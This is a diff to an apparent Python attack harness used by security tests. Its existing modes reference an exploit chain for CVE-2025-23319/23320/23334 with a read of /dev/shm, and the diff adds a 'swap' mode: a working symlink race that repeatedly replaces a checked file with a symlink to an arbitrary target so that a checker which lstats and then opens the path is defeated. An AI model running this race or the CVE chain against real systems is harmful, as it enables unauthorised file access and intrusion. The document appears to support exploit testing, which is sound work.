@@ -4,6 +4,7 @@ step got; the tests assert on it.
 
     serve HTTP_PORT MODEL MARKER_HEX   the CVE-2025-23319/23320/23334 chain and a read of /dev/shm
     browser PORT                        forge a Chromium runner result, download its model, flood a POST
+    swap FOLDER NAME TARGET SECONDS     swap FOLDER/NAME between a regular file and a symlink to TARGET
 """
 
 from __future__ import annotations
@@ -100,10 +101,29 @@ def attack_browser(port: int) -> dict:
     return result
 
 
+def swap(folder: Path, name: str, target: str, seconds: float) -> dict:
+    """Race a checker that `lstat`s FOLDER/NAME and then opens it: as fast as this process can, put a
+    regular file there, then a symlink to TARGET, each by an atomic rename."""
+    import time
+
+    real, link, path = folder / ".real", folder / ".link", folder / name
+    swaps, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        real.write_bytes(b"genuine keras metadata")
+        os.replace(real, path)
+        link.unlink(missing_ok=True)
+        os.symlink(target, link)
+        os.replace(link, path)
+        swaps += 1
+    return {"swaps": swaps}
+
+
 if __name__ == "__main__":
     kind = sys.argv[1]
     if kind == "serve":
         out = attack_serve(int(sys.argv[2]), sys.argv[3], bytes.fromhex(sys.argv[4]))
+    elif kind == "swap":
+        out = swap(Path(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
     else:
         out = attack_browser(int(sys.argv[2]))
     out["uid"] = os.getuid()
